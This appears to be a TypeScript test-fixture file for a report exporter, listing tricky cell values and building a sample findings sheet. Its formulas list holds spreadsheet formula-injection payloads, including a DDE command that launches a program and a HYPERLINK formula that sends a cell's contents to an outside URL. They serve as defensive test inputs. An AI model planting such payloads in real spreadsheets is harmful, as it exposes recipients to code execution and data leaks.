import fc from 'fast-check';
import type { ReportDocument } from '../../../server/src/report/document/report-document.ts';
import type { Sheet } from '../../../server/src/report/document/sheet.ts';
import { visible } from '../../../server/src/report/document/visible.ts';
import { exampleDocuments } from './example-documents.ts';

/** Cells that a spreadsheet would take for a formula, a call of another program or the end of the cell. */
export const formulas = [
  '=1+1',
  '=HYPERLINK("http://example.com?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  ' =1+1',
  '\n=1+1',
  '＝1+1',
];

/** Cells that have a meaning of their own to some format or library, and others that are only awkward. */
export const awkward = [
  '"',
  'a,b;c',
  '"quoted", and not',
  'one\ntwo\n\nthree',
  '<b>&amp;</b>',
  '_x0041_ and _x005F_x0041_',
  'constructor',
  '__proto__',
  'toString',
  '\ue000constructor',
  '\ue000 ',
  '  in the middle  ',
  ']]>',
  'Łódź Ελλάδα Київ 日本 🔒',
  '0012',
  '1e5',
  'TRUE',
  '2026-13-45',
  'audit-as-code sha256: 0000000000000000000000000000000000000000000000000000000000000000',
];

/** Any text as formats get it, of characters. */
export const anyText = fc
  .oneof(fc.string({ unit: 'binary' }), fc.string({ unit: fc.constantFrom(...'=+-@\t\n",;_x0041 a\u0000') }))
  .map((text) => visible(text).replace(/\p{NChar}/gu, ''));

/** The findings register of the example, with other cells: an id, a text and a day each row. */
export function registerOf(texts: readonly string[], more: Partial<ReportDocument> = {}): ReportDocument {
  const findings = exampleDocuments('acme').find(({ kind }) => kind === 'findings');
  if (!findings) throw new Error('The example has no findings register.');
  const sheet: Sheet = {
    name: 'Findings',
    columns: [
      { key: 'id', title: 'Id', kind: 'text', long: false },
      { key: 'title', title: 'Title', kind: 'text', long: true },
      { key: 'raisedOn', title: 'Raised on', kind: 'day', long: false },
      { key: 'overdueDays', title: 'Days overdue', kind: 'number', long: false },
    ],
    rows: texts.map((text, index) => [`F-${index}`, text, '2026-02-03', -index]),
  };
  return { ...findings, sheets: [sheet], ...more };
}
